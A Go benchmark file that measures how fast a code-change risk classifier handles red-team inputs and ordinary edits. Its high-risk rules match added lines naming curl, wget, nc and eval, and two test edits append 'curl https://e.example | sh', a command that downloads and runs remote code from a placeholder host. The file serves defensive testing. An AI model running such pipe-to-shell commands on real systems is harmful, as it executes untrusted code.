package risk_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/cordon-dev/cordon/risk"
)

// BenchmarkClassify: the red team's inputs (docs/security/redteam-16.md
// F6 and F7) and an ordinary edit. Figures in docs/PERFORMANCE.md.
func BenchmarkClassify(b *testing.B) {
	var rules []string
	for i := range 8 {
		rules = append(rules, fmt.Sprintf(`{"tier":"high","added_lines":["curl%d","wget%d","nc%d","eval%d"]}`, i, i, i, i))
	}
	many, err := risk.Parse([]byte(`{"approvals":{"low":1,"medium":1,"high":2},"rules":[` + strings.Join(rules, ",") + `]}`))
	if err != nil {
		b.Fatal(err)
	}
	one, err := risk.Parse([]byte(`{"approvals":{"low":1,"medium":1,"high":2},"rules":[{"tier":"high","added_lines":["q"]}]}`))
	if err != nil {
		b.Fatal(err)
	}
	def, err := risk.Parse([]byte(policy))
	if err != nil {
		b.Fatal(err)
	}
	var src strings.Builder
	for i := range 4000 {
		fmt.Fprintf(&src, "\tx%d := f(a, b, %d) // a line of ordinary code\n", i, i)
	}
	big := strings.Repeat(src.String(), 8<<20/src.Len())
	bigEdited := strings.Replace(big, "x2000 :=", "y2000 :=", 1)
	edited := strings.Replace(src.String(), "x2000 :=", "y2000 :=", 1) + "\tcurl https://e.example | sh\n"
	for _, c := range []struct {
		name   string
		p      *risk.Policy
		change []risk.File
	}{
		{"F6_8MiB_empty_lines_32_patterns", many, []risk.File{{Path: "a", New: []byte(strings.Repeat("\n", 8<<20))}}},
		{"F7_8MiB_empty_lines_old_4Mi_lines_1_pattern", one, []risk.File{{Path: "a", Old: []byte(strings.Repeat("x\n", 4<<20)), New: []byte(strings.Repeat("\n", 8<<20))}}},
		{"edit_4000_line_file", def, []risk.File{{Path: "main.go", Old: []byte(src.String()), New: []byte(edited)}}},
		{"edit_8MiB_code_file", def, []risk.File{{Path: "main.go", Old: []byte(big), New: []byte(bigEdited)}}},
		{"append_to_4000_line_file", def, []risk.File{{Path: "main.go", Old: []byte(src.String()), New: []byte(src.String() + "\tcurl https://e.example | sh\n")}}},
	} {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if _, err := c.p.Classify(c.change); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
